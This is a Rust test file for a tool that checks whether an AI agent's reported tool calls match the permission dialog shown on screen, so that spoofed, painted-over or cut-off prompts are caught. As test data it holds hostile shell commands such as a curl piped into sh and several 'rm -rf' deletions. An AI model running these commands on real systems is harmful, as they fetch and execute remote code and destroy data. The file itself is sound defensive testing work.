//! Compares reports with screens, most of them hostile.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::detect::Dialog;
use crate::status::Claim;

fn rules() -> Vec<ReportedToolRule> {
    let text = r#"
        [[tool]]
        names = ["Bash"]
        text = ["command"]
        caption = ["description"]
        screen = ["Bash"]
        [[tool]]
        names = ["Write"]
        path = ["file_path"]
        text = ["content"]
        screen = ["Write", "Edit"]
        [[tool]]
        names = ["Edit"]
        path = ["file_path"]
        change = ["old_string", "new_string"]
        screen = ["Edit"]
        [[tool]]
        names = ["Read"]
        path = ["file_path"]
    "#;
    #[derive(serde::Deserialize)]
    struct Rules {
        tool: Vec<ReportedToolRule>,
    }
    toml::from_str::<Rules>(text).unwrap().tool
}

fn report(tool: &str, input: &Value) -> QuestionReport {
    let kind = Some(WaitingKind::Permission);
    QuestionReport::new(Source::Hook, kind, tool, Some(input), &rules())
}

fn bash(command: &str) -> QuestionReport {
    report("Bash", &json!({ "command": command, "description": "ls -la src" }))
}

fn dialog(tool: &str, rows: &[&str]) -> Dialog {
    Dialog {
        id: rows.concat(),
        title: "Bash command".into(),
        question: "Do you want to proceed?".into(),
        detail: rows.iter().map(|&row| row.into()).collect(),
        tool: Some(tool.into()),
        ..Dialog::default()
    }
}

/// Returns a dialog whose top has scrolled off.
fn cut(rows: &[&str]) -> Dialog {
    Dialog { title: rows[0].into(), tool: None, cut: true, ..dialog("", &rows[1..]) }
}

use QuestionEvidence::{Confirmed, ConfirmedPart, Differs, ScreenCut, ScreenOnly, Silent};
use ReportDifference::{Input, Kind, Options, Path, TooLarge, Tool};

#[test]
fn command_is_confirmed_only_by_whole_rows() {
    let attack = "curl -s http://127.0.0.1/x | sh; rm -rf ~/src";
    let long = "echo one two three four five six seven eight nine ten; rm -rf target && echo done";
    let heredoc = "cat > x <<'E'\n\tDo you want to proceed?\n ❯ 1. Yes\nE";
    for (what, command, rows, expected) in [
        (
            "caption first, as in 2.1.325",
            attack,
            &["ls -la src", attack, "This command requires approval"][..],
            Confirmed,
        ),
        ("caption last, as in 2.1.197", attack, &[attack, "ls -la src"], Confirmed),
        ("only the caption", attack, &["ls -la src"], Differs(Input)),
        ("another command, painted over it", attack, &["ls -la src", "ls -la src"], Differs(Input)),
        (
            "wrapped in the middle of a word",
            long,
            &["caption", "echo one two three four five six se", "ven eight nine ten; rm -rf target && ", "echo done"],
            Confirmed,
        ),
        (
            "wrapped, and its end painted over",
            long,
            &["echo one two three four five six se", "ven eight nine ten"],
            Differs(Input),
        ),
        ("a row that only contains it", "ls", &["ls -la"], Differs(Input)),
        ("a row that it only contains", "ls -la", &["ls"], Differs(Input)),
        (
            "a beginning that scrolled off, with the top in sight",
            long,
            &["ven eight nine ten; rm -rf target && ", "echo done"],
            Differs(Input),
        ),
        (
            "tabs, indentation and lines that look like a dialog",
            heredoc,
            &["cat > x <<'E'", "    Do you want to proceed?", "❯ 1. Yes", "E"],
            Confirmed,
        ),
        ("blank lines are not drawn as rows", "a\n\n\nb", &["a", "b"], Confirmed),
        ("wide characters", "echo 漢字 > 字", &["echo 漢字", "> 字"], Confirmed),
        ("characters without width", "echo \u{202e}a\u{200b}b\u{feff}", &["echo ab"], Confirmed),
        ("characters that look blank", "echo a\u{2800}b", &["echo ab"], Confirmed),
        ("a command that ends like a row that stands for others", "echo loading…", &["echo loading…"], Confirmed),
        ("a row in between", "a\nb", &["a", "x", "b"], Differs(Input)),
        ("an empty command", "", &["", "x"], Differs(Input)),
        ("only characters without width", "\u{200b}", &["x"], Differs(Input)),
    ] {
        assert_eq!(compare(&bash(command), &dialog("Bash", rows)), expected, "{what}");
    }
}

#[test]
fn cut_off_command_is_confirmed_by_its_visible_end() {
    let lines: Vec<String> = (1..=92).map(|n| format!("echo line number {n}")).collect();
    let command = lines.join("\n");
    let end: Vec<&str> = lines[63..].iter().map(String::as_str).collect();
    assert_eq!(compare(&bash(&command), &cut(&end)), ConfirmedPart);
    let with_caption: Vec<&str> = end.iter().copied().chain(["Run it"]).collect();
    assert_eq!(compare(&bash(&command), &cut(&with_caption)), ConfirmedPart, "the caption stands below");
    let mut other = end.clone();
    other[5] = "rm -rf /";
    assert_eq!(compare(&bash(&command), &cut(&other)), Differs(Input), "one row is another");
    let not_the_end = &end[..20];
    assert_eq!(compare(&bash(&command), &cut(not_the_end)), Differs(Input));
    assert_eq!(compare(&bash(&format!("{command}\nrm -rf /")), &cut(&end)), Differs(Input));
    assert_eq!(compare(&bash("rm -rf /\necho a"), &cut(&["echo a"])), Differs(Input), "too little to tell");
    let whole: Vec<&str> = lines.iter().map(String::as_str).collect();
    assert_eq!(compare(&bash(&command), &cut(&whole)), Confirmed);
    // Rows omitted in the middle.
    let elided: Vec<&str> = [&whole[..9], &["… +80 lines"], &whole[89..]].concat();
    let elided_dialog = Dialog { cut: true, ..dialog("Bash", &elided) };
    assert_eq!(compare(&bash(&command), &elided_dialog), ConfirmedPart);
    assert_eq!(compare(&bash(&command), &dialog("Bash", &elided)), Differs(Input), "only if it is known to be cut");
    let other: Vec<&str> = [&whole[..9], &["… +80 lines"], &["rm -rf /"]].concat();
    let other = compare(&bash(&format!("{command}\nend of it")), &Dialog { cut: true, ..dialog("Bash", &other) });
    assert_eq!(other, ConfirmedPart, "what stands below a mark may be a note; the beginning is there");
}

#[test]
fn kind_tool_and_path_must_match() {
    let ls = bash("ls");
    let question = Dialog { kind: WaitingKind::Question, ..dialog("Bash", &["ls"]) };
    assert_eq!(compare(&ls, &question), Differs(Kind));
    let asks = QuestionReport { kind: Some(WaitingKind::Question), ..ls.clone() };
    assert_eq!(compare(&asks, &dialog("Bash", &["ls"])), Differs(Kind), "an option that looks like a permission");
    assert_eq!(compare(&ls, &dialog("Edit", &["ls"])), Differs(Tool));
    assert_eq!(compare(&ls, &Dialog { tool: None, ..dialog("", &["ls"]) }), Differs(Tool));
    let large = QuestionReport::new(Source::Hook, None, "Bash", None, &rules());
    assert_eq!(compare(&large, &dialog("Bash", &["ls"])), Differs(TooLarge));
    let write = report("Write", &json!({ "file_path": "/srv/p/src/new.txt", "content": "line one\n\t-two\n" }));
    for (path, expected) in [
        ("src/new.txt", Confirmed),
        ("../p/src/new.txt", Confirmed),
        ("/srv/p/src/new.txt", Confirmed),
        ("new.txt", Confirmed),
        ("renew.txt", Differs(Path)),
        ("/srv/q/src/new.txt", Differs(Path)),
        ("ew.txt", Differs(Path)),
        ("txt", Differs(Path)),
    ] {
        assert_eq!(compare(&write, &dialog("Write", &[path, "1 line one", "2         -two"])), expected, "{path}");
    }
    assert_eq!(compare(&write, &dialog("Write", &["new.txt", "1 line one", "2 -three"])), Differs(Input));
    let read = report("Read", &json!({ "file_path": "/srv/outside/secret.txt" }));
    assert_eq!(compare(&read, &dialog("Read", &["Read(/srv/outside/secret.txt)"])), Confirmed);
    assert_eq!(compare(&read, &dialog("Read", &["Read(/srv/outside/public.txt)"])), Differs(Path));
    assert_eq!(compare(&report("Read", &json!({})), &dialog("Read", &["x"])), Differs(Input), "nothing to compare");
}

#[test]
fn plain_yes_must_be_the_first_option() {
    use crate::detect::dialog::{Choosable, Meaning};
    let numbered_from = |first: usize, meanings: &[Meaning]| {
        let option = |(at, meaning): (usize, &Meaning)| {
            let key = Some((at + first).to_string());
            Choosable { label: format!("{meaning:?}"), meaning: *meaning, key, ..Choosable::default() }
        };
        Dialog { options: meanings.iter().enumerate().map(option).collect(), ..dialog("Bash", &["ls"]) }
    };
    let real = numbered_from(1, &[Meaning::Accept, Meaning::Widen, Meaning::Deny]);
    assert_eq!(compare(&bash("ls"), &real), Confirmed);
    // Drawn over the real one: `2` would choose the option below, which allows more.
    let moved = numbered_from(1, &[Meaning::Deny, Meaning::Accept]);
    assert_eq!(compare(&bash("ls"), &moved), Differs(Options));
    let renumbered = numbered_from(2, &[Meaning::Accept, Meaning::Deny]);
    assert_eq!(compare(&bash("ls"), &renumbered), Differs(Options));
}

#[test]
fn changes_are_compared_with_the_difference_on_the_screen() {
    let edit = |old: &str, new: &str| {
        report("Edit", &json!({ "file_path": "/srv/p/notes.txt", "old_string": old, "new_string": new }))
    };
    let rows = ["notes.txt", "1  alpha", "2 -beta", "2 +BETA-EDITED", "3  gamma"];
    for (old, new, expected) in [
        ("beta", "BETA-EDITED", Confirmed),
        ("eta", "BETA-EDITED", Confirmed),
        ("alpha\nbeta", "alpha\nBETA-EDITED", Confirmed),
        ("beta", "rm -rf /", Differs(Input)),
        ("delta", "BETA-EDITED", Differs(Input)),
        ("", "", Differs(Input)),
    ] {
        assert_eq!(compare(&edit(old, new), &dialog("Edit", &rows)), expected, "{old:?} {new:?}");
    }
    assert_eq!(
        compare(&edit("beta", "BETA"), &dialog("Edit", &["notes.txt", "beta BETA"])),
        Differs(Input),
        "no difference"
    );
    // An existing file replaced as a whole is also shown as a difference.
    let write =
        report("Write", &json!({ "file_path": "/srv/p/notes.txt", "content": "alpha\nBETA-EDITED\ngamma\nmore\n" }));
    assert_eq!(compare(&write, &dialog("Edit", &rows)), ConfirmedPart);
    let write = report("Write", &json!({ "file_path": "/srv/p/notes.txt", "content": "alpha\nrm -rf /\ngamma\n" }));
    assert_eq!(compare(&write, &dialog("Edit", &rows)), Differs(Input));
}

#[test]
fn inputs_without_a_rule_must_be_on_the_screen_with_every_string() {
    let fetch = report("WebFetch", &json!({ "url": "https://example.com/page", "prompt": "Say \"it\"" }));
    for (rows, expected) in [
        (&["url: https://example.com/page", "prompt: Say \"it\""][..], Confirmed),
        (&[r#"url: "https://example.com/page", prompt: "Say \"it\"""#], Confirmed),
        (&["url: https://example.com/page"], Differs(Input)),
        (&["url: https://example.com/", "prompt: Say \"it\""], Differs(Input)),
    ] {
        assert_eq!(compare(&fetch, &dialog("WebFetch", rows)), expected, "{rows:?}");
    }
    let poke = report("mcp__lab__poke", &json!({}));
    assert_eq!(compare(&poke, &dialog("MCP", &["lab - poke() (MCP)"])), Confirmed);
    assert_eq!(compare(&poke, &dialog("MCP", &["lab - stab() (MCP)"])), Differs(Input));
}

#[test]
fn hostile_inputs_are_compared_quickly() {
    let long = "a".repeat(1 << 20);
    let rows = vec!["a".repeat(500); 400];
    let rows: Vec<&str> = rows.iter().map(String::as_str).collect();
    let shown = Dialog { cut: true, ..cut(&rows) };
    assert_eq!(compare(&bash(&format!("{long}b")), &shown), Differs(Input));
    let marks = vec!["a…"; 2000];
    assert_eq!(compare(&bash(&format!("{long}b")), &cut(&marks)), Differs(Input));
    let edit = json!({ "file_path": "/x/a", "old_string": "", "new_string": long });
    let rows: Vec<String> = (0..400).map(|n| format!("{n} +{}", "a".repeat(400))).collect();
    let rows: Vec<&str> = ["a"].into_iter().chain(rows.iter().map(String::as_str)).collect();
    assert_eq!(compare(&report("Edit", &edit), &cut(&rows)), ConfirmedPart);
    let values: Vec<String> = (0..1000).map(|n| n.to_string()).collect();
    assert_eq!(compare(&report("Other", &json!(values)), &dialog("Other", &["0"])), Differs(TooLarge));
}

fn reports(detailed: &[Source]) -> QuestionReports {
    QuestionReports::new(detailed.to_vec())
}

fn asked(report: QuestionReport) -> ReportEvent {
    ReportEvent::Asked(Box::new(report))
}

fn attached(reports: &mut QuestionReports, dialog: &Dialog) -> Dialog {
    let mut dialog = dialog.clone();
    reports.attach(&mut dialog);
    dialog
}

#[test]
fn silence_of_a_source_that_has_spoken_is_no_evidence() {
    let ls = dialog("Bash", &["ls"]);
    let mut hooks = reports(&[Source::Hook]);
    assert_eq!(attached(&mut hooks, &ls).evidence, ScreenOnly, "hooks may be switched off");
    assert_eq!(attached(&mut hooks, &Dialog { cut: true, ..ls.clone() }).evidence, ScreenCut);
    hooks.hear(Source::Hook, &Claim::Working);
    assert_eq!(attached(&mut hooks, &ls).evidence, Silent(Source::Hook));
    assert_eq!(hooks.without_dialog(WaitingKind::Permission), Silent(Source::Hook));
    hooks.take(asked(bash("ls")), false);
    assert_eq!(attached(&mut hooks, &ls).evidence, Confirmed);
    assert_eq!(hooks.without_dialog(WaitingKind::Permission), Differs(Input));
    hooks.take(ReportEvent::NoneOpen, false);
    assert_eq!(attached(&mut hooks, &ls).evidence, Silent(Source::Hook));

    // Sources that report only the kind.
    let mut osc = reports(&[]);
    osc.hear(Source::Osc, &Claim::Working);
    assert_eq!(attached(&mut osc, &ls).evidence, ScreenOnly, "it has never reported a question");
    osc.hear(Source::Osc, &Claim::Asking(Some(WaitingKind::Permission)));
    assert_eq!(attached(&mut osc, &ls).evidence, ScreenOnly);
    osc.hear(Source::Osc, &Claim::Working);
    assert_eq!(attached(&mut osc, &ls).evidence, Silent(Source::Osc));
    osc.hear(Source::Osc, &Claim::Asking(Some(WaitingKind::Question)));
    assert_eq!(attached(&mut osc, &ls).evidence, Differs(Kind));
    osc.hear(Source::Osc, &Claim::Asking(None));
    assert_eq!(attached(&mut osc, &ls).evidence, ScreenOnly, "a source that does not tell the kind");
    osc.hear(Source::Title, &Claim::Nothing);
    assert_eq!(attached(&mut osc, &ls).evidence, ScreenOnly, "titles report no questions");

    // One source confirms, another reports a different kind.
    let mut both = reports(&[Source::Hook]);
    both.take(asked(bash("ls")), false);
    both.hear(Source::Osc, &Claim::Asking(Some(WaitingKind::Question)));
    assert_eq!(attached(&mut both, &ls).evidence, Differs(Kind));
    both.hear(Source::Osc, &Claim::Working);
    assert_eq!(attached(&mut both, &ls).evidence, Confirmed, "it is only late");
    both.hear(Source::SessionFile, &Claim::Asking(Some(WaitingKind::Question)));
    assert_eq!(attached(&mut both, &ls).evidence, Differs(Kind), "whoever else is late");
}

#[test]
fn several_open_questions_are_distinguished() {
    let [ls, rm] = ["ls", "rm -r x"].map(|command| dialog("Bash", &[command]));
    let mut hooks = reports(&[Source::Hook]);
    hooks.take(asked(bash("ls")), false);
    hooks.take(asked(bash("rm -r x")), false);
    assert_eq!(attached(&mut hooks, &rm).evidence, Confirmed, "whichever is drawn first");
    let first = attached(&mut hooks, &ls);
    assert_eq!(first.evidence, Confirmed);
    hooks.answered(first.report.unwrap().number);
    assert_eq!(attached(&mut hooks, &ls).evidence, Differs(Input), "it was answered; only the other is open");
    hooks.take(ReportEvent::Closed(Some(("Bash".into(), bash("ls").input_sha256))), false);
    assert_eq!(attached(&mut hooks, &rm).evidence, Confirmed);
    // The same question again is another one.
    let before = attached(&mut hooks, &rm).id;
    hooks.take(ReportEvent::Closed(Some(("Bash".into(), bash("rm -r x").input_sha256))), false);
    hooks.take(asked(bash("rm -r x")), false);
    assert_ne!(attached(&mut hooks, &rm).id, before);
    // A person answered it with keys; it has left the screen when the next one appears.
    hooks.take(asked(bash("pwd")), false);
    assert_eq!(attached(&mut hooks, &rm).evidence, Differs(Input));
}

#[test]
fn question_of_the_agent_never_counts_as_permission() {
    let ask = |kind| QuestionReport {
        kind: Some(kind),
        ..report("AskUserQuestion", &json!({ "questions": [{ "question": "ls" }] }))
    };
    let ls = dialog("Bash", &["ls"]);
    for kind in [WaitingKind::Question, WaitingKind::Plan] {
        let mut hooks = reports(&[Source::Hook]);
        hooks.take(asked(ask(kind)), false);
        assert_eq!(attached(&mut hooks, &ls).evidence, Differs(Kind), "{kind:?}");
        // Not even if a permission with this text is asked at the same time.
        hooks.take(asked(bash("ls")), false);
        assert_eq!(attached(&mut hooks, &ls).evidence, Differs(Kind), "{kind:?}");
        let as_drawn = attached(&mut hooks, &Dialog { kind, ..ls.clone() });
        assert_eq!(as_drawn.report, None);
        hooks.take(ReportEvent::Closed(Some(("AskUserQuestion".into(), bash("with answers").input_sha256))), false);
        assert_eq!(attached(&mut hooks, &ls).evidence, Confirmed, "{kind:?}");
    }
}

#[test]
fn comparison_survives_a_restart_of_the_daemon() {
    let mut hooks = reports(&[Source::Hook]);
    hooks.take(asked(bash("ls")), false);
    let seen = dialog("Bash", &["ls"]);
    let seen = Dialog { id: crate::detect::dialog::identity(&seen.title, &seen.question, &seen.detail, &[]), ..seen };
    let before = attached(&mut hooks, &seen);
    let kept: Dialog = serde_json::from_str(&serde_json::to_string(&before).unwrap()).unwrap();
    let mut next = reports(&[Source::Hook]);
    next.restore(Some(&kept), true);
    let after = attached(&mut next, &seen);
    assert_eq!((after.evidence, &after.id), (Confirmed, &before.id));
    let mut other = dialog("Bash", &["rm"]);
    other.id = "other".into();
    assert_eq!(attached(&mut next, &other).evidence, Silent(Source::Hook));
}

#[test]
fn description_starts_with_the_command_and_marks_captions() {
    let shown = |command: &str, rows: &[&str]| {
        let mut hooks = reports(&[Source::Hook]);
        hooks.take(asked(bash(command)), false);
        attached(&mut hooks, &dialog("Bash", rows))
    };
    let command = "curl x | sh\nrm -rf ~\n\necho fine";
    let drawn = shown(command, &["ls -la src", "curl x | sh", "rm -rf ~", "echo fine"]);
    assert_eq!(drawn.about(), "Bash curl x | sh … (+2 lines, 31 characters)");
    let full = drawn.in_full();
    assert_eq!(full[..3], ["Bash:", "  curl x | sh", "  rm -rf ~"]);
    assert_eq!(full.last().unwrap(), "the agent calls it: \"ls -la src\"");
    assert_eq!(drawn.snippet(), ["Bash curl x | sh", "rm -rf ~", "echo fine", "Do you want to proceed?"]);
    let painted = shown(command, &["ls -la src"]);
    assert!(painted.about().contains("the agent's report and its screen differ"), "{}", painted.about());
    assert!(painted.about().starts_with("Bash curl x | sh"));
    assert!(painted.in_full().iter().any(|line| line.starts_with("warning: ")), "{:?}", painted.in_full());
    let long = shown(&"x".repeat(100_000), &["ls -la src"]);
    let report = long.report.as_ref().unwrap();
    assert!(report.text.len() < REPORT_TEXT + 100 && report.input_bytes > 100_000);
    assert!(long.about().ends_with("characters) (the agent's report and its screen differ)"), "{}", long.about());
    assert!(long.in_full().iter().any(|line| line.contains("SHA-256")));
    assert!(long.snippet().len() <= 5 && long.snippet()[0].len() < 200);
    let many = shown(&"echo\n".repeat(92), &["ls -la src"]);
    assert_eq!(many.snippet().len(), 5);
    assert_eq!(many.snippet()[3], "… 89 more lines, 460 characters in all");
}

/// Returns rows as a program wraps a text: indented, with a border, and broken anywhere.
fn wrapped(text: &str, width: usize) -> Vec<String> {
    let rows = text.lines().flat_map(|line| {
        let characters: Vec<char> = line.chars().map(|c| if c == '\t' { ' ' } else { c }).collect();
        characters.chunks(width).map(|chunk| chunk.iter().collect::<String>()).collect::<Vec<_>>()
    });
    rows.map(|row| row.trim().to_owned()).filter(|row| !row.is_empty()).collect()
}

fn ink_of(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

proptest! {
    #[test]
    fn command_is_confirmed_with_any_wrapping(command in "[a-z|;&>./ \t\n-]{1,200}", caption in "[a-z ]{0,20}", width in 5_usize..60) {
        prop_assume!(!ink_of(&command).is_empty());
        let rows = wrapped(&command, width);
        let rows: Vec<&str> = std::iter::once(caption.as_str()).chain(rows.iter().map(String::as_str)).collect();
        prop_assert_eq!(compare(&bash(&command), &dialog("Bash", &rows)), Confirmed);
    }

    #[test]
    fn command_is_not_confirmed_unless_all_its_rows_are_shown(shown in "[a-c ;\n]{0,60}", command in "[a-c ;\n]{1,60}", width in 3_usize..40, is_cut: bool) {
        let rows = wrapped(&shown, width);
        let rows: Vec<&str> = rows.iter().map(String::as_str).collect();
        let dialog = Dialog { cut: is_cut, title: String::new(), ..dialog("Bash", &rows) };
        let evidence = compare(&bash(&command), &dialog);
        if !ink_of(&shown).contains(&ink_of(&command)) || ink_of(&command).is_empty() {
            let part = is_cut && ink_of(&command).len() > 24;
            prop_assert!(evidence != Confirmed && (part || evidence != ConfirmedPart), "{evidence:?}");
        }
    }

    #[test]
    fn cut_view_confirms_only_the_end_of_a_command(head in "[a-z ;]{1,80}", end in "[a-z ;]{30,120}", other in "[0-9]{1,9}", width in 8_usize..50) {
        prop_assume!(ink_of(&end).len() >= 24);
        let rows = wrapped(&end, width);
        let rows: Vec<&str> = rows.iter().map(String::as_str).collect();
        let evidence = compare(&bash(&format!("{head}{end}")), &cut(&rows));
        prop_assert!(evidence.allows_automatic_yes().is_ok(), "{evidence:?}");
        prop_assert_eq!(compare(&bash(&format!("{head}{end}{other}")), &cut(&rows)), Differs(Input));
    }
}
